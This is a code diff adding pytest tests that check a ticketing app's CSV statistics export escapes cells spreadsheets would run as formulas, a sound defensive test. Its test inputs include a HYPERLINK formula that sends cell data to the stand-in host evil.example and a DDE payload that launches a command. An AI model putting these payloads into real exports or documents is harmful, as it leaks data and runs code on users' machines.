@@ -122,3 +122,35 @@ def test_only_managers_of_the_branch_see_statistics(client, branch, deps):
         ).status_code
         == 403
     )
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
+)
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client, branch, name):
+    manager = branch.headers("manager")
+    body = {"name": {"zh": name, "en": name}, "prefix": "F", "target_wait": 600, "expected_service": 300}
+    service = client.post(f"/api/v1/branches/{branch.id}/services", json=body, headers=manager).json
+    ticket = client.post(
+        f"/api/v1/branches/{branch.id}/tickets", json={"service_id": service["id"]}, headers=branch.headers("kiosk")
+    )
+    assert ticket.status_code == 201
+    rows = list(csv.DictReader(io.StringIO(stats(client, branch, csv=True).get_data(as_text=True))))
+    [row] = [r for r in rows if r["group"] == "service" and r["key"] == "F"]
+    assert row["label"] == "'" + name
+    assert row["tickets"] == "1"  # figures are left as they are
+
+
+def test_tabs_and_returns_that_start_a_cell_are_escaped_too_but_numbers_are_not():
+    from server.web.api_stats import spreadsheet_safe
+
+    assert [spreadsheet_safe(c) for c in ("\tx", "\rx", "x=1", "", -5, 2.5, None)] == [
+        "'\tx",
+        "'\rx",
+        "x=1",
+        "",
+        -5,
+        2.5,
+        None,
+    ]
